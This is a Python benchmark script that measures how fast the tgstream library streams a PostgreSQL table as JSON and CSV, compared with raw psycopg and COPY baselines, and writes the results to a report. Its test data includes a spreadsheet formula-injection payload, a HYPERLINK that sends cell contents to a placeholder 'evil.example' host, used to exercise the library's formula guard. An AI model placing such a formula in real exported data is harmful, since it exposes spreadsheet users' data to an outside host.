"""Exporting a PostgreSQL table as JSON and CSV: tgstream against the driver.

In process (the WSGI app is called directly and its body consumed), on the
PostgreSQL server at ``--url`` (default: 127.0.0.1:5432, database ``test``),
a table of N rows (default 200 000) of ``(id, name, email, created_at)``:

    R          raw WSGI, psycopg server-side cursor, fetchmany(1000), one
               orjson.dumps per batch -- the practical limit for JSON
    K          raw WSGI, COPY (SELECT ...) TO STDOUT WITH (FORMAT csv, HEADER)
               -- the database's own speed for CSV
    T-json     tgstream json, return stream_query(session, select(items))
    T-json-yield
               tgstream json, the natural generator: for row in
               session.execute(stmt.execution_options(yield_per=1000)): yield row
    T-json-result
               tgstream json, return session.execute(stmt.execution_options(yield_per=1000))
    T-csv      tgstream csv, return stream_query(...) (formula guard on)
    T-csv-yield
               tgstream csv, the natural generator
    K-f        K on items_f: the same rows, one name in 1 000 a formula
               (=HYPERLINK(...)) -- the baseline of stream_copy
    T-copy     tgstream csv, return stream_copy(session, select(items_f)),
               formula guard on
    T-copy-noguard
               T-copy with formula_guard=False
    (-adapter: the app's json renderer has a datetime adapter)

Scenarios alternate within each round (the order rotates every round); the
report shows medians and ratios to R (json) and K (csv).

With ``--copy-memory``, the peak RSS growth of a process streaming
stream_copy of 200 000 and 2 000 000 generated rows (generate_series, the
same formula-like names) is measured in child processes.

Usage::

    python benchmarks/bench_postgres.py                 # writes a section of RESULTS.md
    python benchmarks/bench_postgres.py --quick         # 20 000 rows, writes nothing

Not part of the test suite; timings depend on the machine and its load.
"""
from __future__ import annotations

import argparse
import datetime
import os
import re
import statistics
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
#: the tables' schema, one per number of rows (set by main): runs of
#: different sizes on one server never refill each other's tables
SCHEMA = 'tgstream_bench'
COLUMNS = 'id, name, email, created_at'

SCENARIOS = {
    'R': 'raw WSGI, psycopg server-side cursor + fetchmany(1000) + one orjson.dumps per batch',
    'K': 'raw WSGI, COPY (SELECT ...) TO STDOUT WITH (FORMAT csv, HEADER)',
    'T-json': 'tgstream json, return stream_query(session, select(items))',
    'T-json-yield': 'tgstream json, generator yielding rows (yield_per=1000)',
    'T-json-result': 'tgstream json, return session.execute(stmt with yield_per=1000)',
    'T-json-adapter': 'T-json, the app\'s json renderer has a datetime adapter',
    'T-json-yield-adapter': 'T-json-yield with the datetime adapter',
    'T-csv': 'tgstream csv, return stream_query(...) (formula guard on)',
    'T-csv-yield': 'tgstream csv, generator yielding rows (yield_per=1000)',
    'R-yield': 'raw WSGI over the T-json-yield generator (SQLAlchemy Rows of yield_per=1000), '
               'orjson per 1 000 rows: the limit of the natural generator',
    'K-f': 'K on items_f (one name in 1 000 is =HYPERLINK(...))',
    'T-copy': 'tgstream csv, return stream_copy(session, select(items_f)) (formula guard on)',
    'T-copy-noguard': 'T-copy with formula_guard=False',
}

#: the formula-like name of one row in 1 000 of items_f
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'



def ensure_table(url: str, rows: int) -> None:
    import psycopg

    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute('CREATE SCHEMA IF NOT EXISTS %s' % SCHEMA)
        conn.execute(
            'CREATE TABLE IF NOT EXISTS %s.items (id integer PRIMARY KEY, name text, '
            'email text, created_at timestamp)' % SCHEMA
        )
        have = conn.execute('SELECT count(*) FROM %s.items' % SCHEMA).fetchone()[0]
        if have != rows:
            conn.execute('TRUNCATE %s.items' % SCHEMA)
            conn.execute(
                "INSERT INTO %s.items SELECT n, 'user ' || n, 'user' || n || '@example.com', "
                "timestamp '2024-01-01' + n * interval '1 second' "
                "FROM generate_series(1, %d) AS n" % (SCHEMA, rows)
            )
            conn.execute('VACUUM ANALYZE %s.items' % SCHEMA)
        conn.execute(
            'CREATE TABLE IF NOT EXISTS %s.items_f (LIKE %s.items INCLUDING ALL)' % (SCHEMA, SCHEMA))
        have = conn.execute('SELECT count(*) FROM %s.items_f' % SCHEMA).fetchone()[0]
        if have != rows:
            conn.execute('TRUNCATE %s.items_f' % SCHEMA)
            conn.execute(
                'INSERT INTO %s.items_f SELECT id, CASE WHEN mod(id, 1000) = 0 THEN %%s ELSE name '
                'END, email, created_at FROM %s.items' % (SCHEMA, SCHEMA), (FORMULA,))
            conn.execute('VACUUM ANALYZE %s.items_f' % SCHEMA)


# -- the apps -----------------------------------------------------------------------


def app_r(url: str):
    import orjson
    import psycopg

    keys = ('id', 'name', 'email', 'created_at')

    def app(environ, start_response):
        conn = psycopg.connect(url)

        def body():
            try:
                with conn.transaction():
                    cursor = conn.cursor(name='r')
                    cursor.execute('SELECT %s FROM %s.items ORDER BY id' % (COLUMNS, SCHEMA))
                    prefix = b'['
                    while True:
                        rows = cursor.fetchmany(1000)
                        if not rows:
                            break
                        data = orjson.dumps([dict(zip(keys, row)) for row in rows])
                        yield prefix + data[1:-1]
                        prefix = b','
                    cursor.close()
                    yield b']' if prefix == b',' else b'[]'
            finally:
                conn.close()

        start_response('200 OK', [('Content-Type', 'application/json')])
        return body()

    return app


def app_r_yield(url: str):
    import orjson
    from sqlalchemy import Column, DateTime, Integer, MetaData, String, Table, create_engine, select
    from sqlalchemy.orm import Session

    engine = create_engine(url.replace('postgresql://', 'postgresql+psycopg://', 1))
    items = Table('items', MetaData(schema=SCHEMA), Column('id', Integer, primary_key=True),
                  Column('name', String), Column('email', String),
                  Column('created_at', DateTime))
    statement = select(items).order_by(items.c.id).execution_options(yield_per=1000)

    def app(environ, start_response):
        def body():
            with Session(engine) as session:
                rows = []
                prefix = b'['
                result = session.execute(statement)
                keys = [str(key) for key in result.keys()]
                for row in result:  # the natural generator's loop
                    rows.append(dict(zip(keys, row)))
                    if len(rows) == 1000:
                        yield prefix + orjson.dumps(rows)[1:-1]
                        prefix = b','
                        rows = []
                if rows:
                    yield prefix + orjson.dumps(rows)[1:-1]
                    prefix = b','
                yield b']' if prefix == b',' else b'[]'

        start_response('200 OK', [('Content-Type', 'application/json')])
        return body()

    return app


def app_k(url: str, table: str = 'items'):
    import psycopg

    def app(environ, start_response):
        conn = psycopg.connect(url)

        def body():
            try:
                with conn.cursor() as cursor:
                    with cursor.copy(
                        'COPY (SELECT %s FROM %s.%s ORDER BY id) TO STDOUT '
                        'WITH (FORMAT csv, HEADER)' % (COLUMNS, SCHEMA, table)
                    ) as copy:
                        for block in copy:
                            yield bytes(block)
            finally:
                conn.close()

        start_response('200 OK', [('Content-Type', 'text/csv; charset=utf-8')])
        return body()

    return app


def app_t(url: str, variant: str):
    from bench_apps import add_datetime_adapter, pyramid_config
    from sqlalchemy import Column, DateTime, Integer, MetaData, String, Table, create_engine, select

    import tgstream

    engine = create_engine(url.replace('postgresql://', 'postgresql+psycopg://', 1))
    options = None
    if variant.startswith('copy'):
        options = {'formula_guard': not variant.endswith('-noguard')}
    items = Table('items_f' if options else 'items', MetaData(schema=SCHEMA),
                  Column('id', Integer, primary_key=True),
                  Column('name', String), Column('email', String),
                  Column('created_at', DateTime))
    statement = select(items).order_by(items.c.id)
    config = pyramid_config(engine)  # the same wiring as the SQLite benchmark's
    config.include('tgstream')
    if variant.endswith('-adapter'):
        add_datetime_adapter(config)
        variant = variant[:-len('-adapter')]

    def returned(request):
        return tgstream.stream_query(request.dbsession, statement)

    def generator(request):
        for row in request.dbsession.execute(statement.execution_options(yield_per=1000)):
            yield row

    def result(request):
        return request.dbsession.execute(statement.execution_options(yield_per=1000))

    def copied(request):
        return tgstream.stream_copy(request.dbsession, statement)

    config.add_route('items', '/items')
    if options is not None:
        config.add_view(copied, route_name='items', renderer='csv', stream=True,
                        stream_options=options)
        return config.make_wsgi_app()
    kind, _, how = variant.partition('-')
    view = {'': returned, 'yield': generator, 'result': result}[how]
    config.add_view(view, route_name='items', renderer=kind, stream=True)
    return config.make_wsgi_app()


def make_app(name: str, url: str):
    if name == 'R':
        return app_r(url)
    if name == 'K':
        return app_k(url)
    if name == 'R-yield':
        return app_r_yield(url)
    if name == 'K-f':
        return app_k(url, 'items_f')
    return app_t(url, name[2:])


# -- measuring ----------------------------------------------------------------------


def call(app) -> tuple[float, float, int, bytes]:
    """(seconds, seconds to the first byte, bytes, body head) of one request."""
    from webob import Request

    environ = Request.blank('/items').environ
    status = []
    start = time.perf_counter()
    body = app(environ, lambda s, h, exc_info=None: status.append(s))
    size, first, head = 0, None, b''
    try:
        for chunk in body:
            if chunk and first is None:
                first = time.perf_counter() - start
            if len(head) < 200:
                head += chunk[:200]
            size += len(chunk)
    finally:
        close = getattr(body, 'close', None)
        if close is not None:
            close()
    elapsed = time.perf_counter() - start
    if not status or not status[0].startswith('200'):
        raise RuntimeError('answered %r' % status)
    return elapsed, first or elapsed, size, head


def check(name: str, head: bytes) -> None:
    if name.startswith('T-copy') and not name.endswith('-noguard'):
        # the guard quotes text cells (FORCE_QUOTE): PostgreSQL cannot quote a row
        assert head.startswith(b'id,name,email,created_at\n1,"user 1","user1@example.com",'
                               b'2024-01-01 00:00:01'), (name, head)
    elif name.startswith(('K', 'T-csv', 'T-copy')):
        expected = b'id,name,email,created_at'
        assert head.startswith(expected), (name, head)
        assert b'1,user 1,user1@example.com,2024-01-01 00:00:01' in head, (name, head)
    else:
        assert head.startswith(b'[{"id":1,"name":"user 1","email":"user1@example.com",'
                               b'"created_at":"2024-01-01T00:00:01"}'), (name, head)


def run(names, url, rows, rounds, log) -> dict:
    apps = {name: make_app(name, url) for name in names}
    for name in names:  # warm up: statements compiled, connections made
        check(name, call(apps[name])[3])
    results = {name: [] for name in names}
    for round_ in range(rounds):
        shift = round_ % len(names)
        for name in names[shift:] + names[:shift]:
            elapsed, first, size, _ = call(apps[name])
            results[name].append({'rows_s': rows / elapsed, 'ttfb_ms': first * 1000,
                                  'bytes': size})
            log('round %d %-22s %9.0f rows/s  ttfb %6.1f ms  %d bytes'
                % (round_ + 1, name, rows / elapsed, first * 1000, size))
    return results


def report(results: dict, args, took: float, load: str) -> str:
    sys.path.insert(0, HERE)
    from bench_json import machine, spread

    def median(name, key='rows_s'):
        return statistics.median(r[key] for r in results[name]) if results.get(name) else None

    r, k = median('R'), median('K')
    lines = [
        '# PostgreSQL export benchmark',
        '',
        'Command: `python benchmarks/bench_postgres.py %s`  ' % ' '.join(args.argv).strip(),
        'Date: %s; took %.0f s; load average before the run: %s  ' % (
            datetime.datetime.now().strftime('%Y-%m-%d %H:%M'), took, load),
        'Machine: %s; PostgreSQL on 127.0.0.1 (the same machine)' % machine(),
        '',
        'N = %d rows of (id, name, email, created_at), %d rounds, in process (the WSGI '
        'app called directly, its body consumed), scenarios alternating; one warm-up '
        'request each first. TTFB: time to the first non-empty body chunk.'
        % (args.rows, args.rounds),
        '',
        '| scenario | rows/s median (min–max) | × R | × K | TTFB ms median |',
        '|---|---:|---:|---:|---:|',
    ]
    for name, runs in results.items():
        rate = statistics.median(x['rows_s'] for x in runs)
        lines.append('| **%s** %s | %s | %s | %s | %.1f |' % (
            name, SCENARIOS[name], spread([x['rows_s'] for x in runs], '%.0f'),
            '%.2f' % (rate / r) if r else '–', '%.2f' % (rate / k) if k else '–',
            median(name, 'ttfb_ms')))
    checks = []
    for name, base, label, goal in (
        ('T-json', r, 'R', 0.9), ('T-json-yield', r, 'R', 0.7), ('T-csv', k, 'K', 0.5),
        ('T-copy', median('K-f'), 'K-f', 0.9), ('T-json-yield', median('R-yield'), 'R-yield', 0.9),
    ):
        value = median(name)
        if value and base:
            checks.append('- %s / %s: %.2f× (target ≥ %.2f×) %s' % (
                name, label, value / base, goal, '✅' if value / base >= goal else '❌'))
    if checks:
        lines += ['', '## Targets (issues 14 and 27)', ''] + checks
    if getattr(args, 'memory', None):
        lines += ['', '## stream_copy memory (issue 27)', ''] + args.memory
    lines += ['', '## Notes', '', NOTES.strip()]
    return '\n'.join(lines) + '\n'


NOTES = """
- PostgreSQL runs on the same 2 cores as the client: K's speed is mostly the
  server's, and every scenario shares the cores with the server's work.
- T-json fetches with a server-side cursor 1 000 rows per round trip, as R
  does (stream_query's FETCH_ROWS), reads them from the psycopg cursor as
  tuples (no SQLAlchemy Row per row; SQLAlchemy's result processors applied,
  none here) and encodes 500 rows per orjson call; with the isoformat
  adapter, orjson formats the checked batch's timestamps itself. That is
  why it can beat R, which builds a dict per row with dict(zip()).
- T-csv: the csv renderer reads stream_query's rows from the psycopg
  cursor as plain tuples with the integer and timestamp columns loaded as
  text (the text str() gives of their values, checked per column of a
  batch), the formula guard skips those columns, and a batch whose cells
  need no quoting and no guard (checked column by column) is written by
  joining its cells -- what the csv module would write. What remains is
  mostly psycopg's fetch. K does none of it: COPY's rows are formatted by
  the server. A COPY fast path (the optional part of issue 14) is not
  built: the server's text for timestamps, floats, empty strings and line
  endings differs from the csv renderer's, so it would not be
  byte-identical without reimplementing Python's formatting in SQL.
- The -yield variants pay per row for the generator and SQLAlchemy's
  per-row iteration (a Row built per row); their items are encoded in runs
  like batches. T-json-result (a returned yield_per Result of a Core
  statement) takes stream_query's tuple path.
- T-copy (issue 27): PostgreSQL writes the CSV (stream_copy); tgstream
  copies psycopg's per-row messages into 64 KiB writes. T-copy-noguard
  is that alone: within noise of K-f. The gap of T-copy is the guard's
  work in the server -- per text cell a CASE, ascii() and one regular
  expression search (the rest of the rule only for the cells it changes),
  and a projection the bare COPY does not need: on the COPY alone (TO
  '/dev/null', no client) about 2-3x K-f's server time. On this shared
  2-core machine the server competes with the client for the cores, so
  that work shows almost one for one; with a free core for PostgreSQL it
  overlaps the client's reading. The guard's subqueries inflate the
  planner's estimate: the COPY runs with jit and parallel plans off
  (compiling it took about a second; a parallel sort 60 ms before the
  first row). Memory: flat from 200 000 to 2 000 000 rows (--copy-memory).
- R-yield is the natural generator's own loop with nothing around it
  (SQLAlchemy Rows of a yield_per result, fetched through SQLAlchemy's
  buffered server-side cursor strategy: one Python-level fetchone and a
  Row per row, about 0.8 us/row more than R's fetchmany), with R's orjson
  batches: the limit of any framework serving that generator.
  T-json-yield / R-yield is tgstream's own cost (the per-item pull of
  the coalescer and the writes after each cursor round trip).
"""


def copy_memory_child(url: str, rows: int) -> None:
    """(In a child process) print the peak RSS growth, in KiB, of one
    stream_copy of ``rows`` generated rows, and its rows/s."""
    from bench_apps import pyramid_config
    from sqlalchemy import create_engine, text

    import tgstream

    engine = create_engine(url.replace('postgresql://', 'postgresql+psycopg://', 1))
    statement = text(
        "SELECT n AS id, CASE WHEN n % 1000 = 0 THEN :formula ELSE 'user ' || n END AS name, "
        "'user' || n || '@example.com' AS email, "
        "timestamp '2024-01-01' + n * interval '1 second' AS created_at "
        "FROM generate_series(1, :rows) AS n").bindparams(formula=FORMULA, rows=rows)
    config = pyramid_config(engine)
    config.include('tgstream')
    config.add_route('items', '/items')
    config.add_view(lambda request: tgstream.stream_copy(request.dbsession, statement),
                    route_name='items', renderer='csv', stream=True)
    app = config.make_wsgi_app()

    def status(key):
        for line in open('/proc/self/status'):
            if line.startswith(key):
                return int(line.split()[1])

    before = status('VmRSS:')
    elapsed, _, size, _ = call(app)
    print(status('VmHWM:') - before, rows / elapsed, size)


def copy_memory(url: str, sizes=(200_000, 2_000_000)) -> list:
    import subprocess

    found = {}
    for rows in sizes:
        out = subprocess.run(
            [sys.executable, __file__, '--url', url, '--memory-child', str(rows)],
            check=True, capture_output=True, text=True, cwd=HERE).stdout.split()
        found[rows] = (int(out[0]) / 1024, float(out[1]), int(out[2]))
    lines = ['Peak RSS growth of the process (VmHWM minus VmRSS before the request) '
             'during one stream_copy of N generated rows (guard on), in a child process:', '']
    lines += ['- N = %d: +%.1f MiB (%.0f rows/s, %d bytes)' % ((rows,) + found[rows])
              for rows in sizes]
    growth = found[sizes[-1]][0] - found[sizes[0]][0]
    lines.append('- growth %d → %d rows: %+.1f MiB (target: flat) %s' % (
        sizes[0], sizes[-1], growth, '✅' if growth < 5 else '❌'))
    return lines


SECTION = '# PostgreSQL export benchmark'
OVERHEAD_MARKER = '<!-- overhead:begin -->'


def write_section(path: str, text: str) -> None:
    """Replace this benchmark's section of ``path`` (from its title to the
    end), keeping what comes before it (the JSON benchmark's report) and the
    overhead benchmark's section after it (bench_overhead.py)."""
    try:
        with open(path) as f:
            current = f.read()
    except FileNotFoundError:
        current = ''
    before = current.split(SECTION)[0].rstrip('\n')
    _, marker, after = current.partition(OVERHEAD_MARKER)
    after = '\n' + marker + after if marker else ''
    # keep the live benchmark's section (bench_live.py), wherever it is
    live = re.search(r'<!-- bench_live: begin -->.*?<!-- bench_live: end -->\n?', current, re.S)
    if live and live.group(0) not in after:
        before = before.replace(live.group(0), '').rstrip('\n')
        after += '\n' + live.group(0)
    with open(path, 'w') as f:
        f.write((before + '\n\n' if before else '') + text + after)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split('\n\n')[0])
    parser.add_argument('--url', default=os.environ.get(
        'TGSTREAM_BENCH_PG_URL', 'postgresql://postgres@127.0.0.1:5432/test'))
    parser.add_argument('--rows', type=int, default=200_000)
    parser.add_argument('--rounds', type=int, default=5)
    parser.add_argument('--scenarios', default=','.join(SCENARIOS))
    parser.add_argument('--quick', action='store_true', help='20 000 rows, 2 rounds, no write')
    parser.add_argument('--output', default=os.path.join(HERE, 'RESULTS.md'),
                        help='the report replaces its own section of this file')
    parser.add_argument('--no-write', action='store_true')
    parser.add_argument('--copy-memory', action='store_true',
                        help='also measure stream_copy memory at 200 000 and 2 000 000 rows')
    parser.add_argument('--memory-child', type=int, help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.memory_child:
        sys.path.insert(0, HERE)
        copy_memory_child(args.url, args.memory_child)
        return 0
    args.argv = list(argv if argv is not None else sys.argv[1:])
    if args.quick:
        args.rows, args.rounds, args.no_write = 20_000, 2, True
    names = [n.strip() for n in args.scenarios.split(',') if n.strip()]
    unknown = [n for n in names if n not in SCENARIOS]
    if unknown:
        parser.error('unknown scenario(s) %s; known: %s' % (unknown, ', '.join(SCENARIOS)))

    def log(message):
        print(message, file=sys.stderr, flush=True)

    load = ' '.join(open('/proc/loadavg').read().split()[:3])
    started = time.monotonic()
    global SCHEMA
    SCHEMA = 'tgstream_bench_%d' % args.rows
    ensure_table(args.url, args.rows)
    results = run(names, args.url, args.rows, args.rounds, log)
    args.memory = copy_memory(args.url) if args.copy_memory else None
    text = report(results, args, time.monotonic() - started, load)
    print(text)
    if not args.no_write:
        write_section(args.output, text)
        log('wrote %s' % args.output)
    return 0


if __name__ == '__main__':
    sys.exit(main())
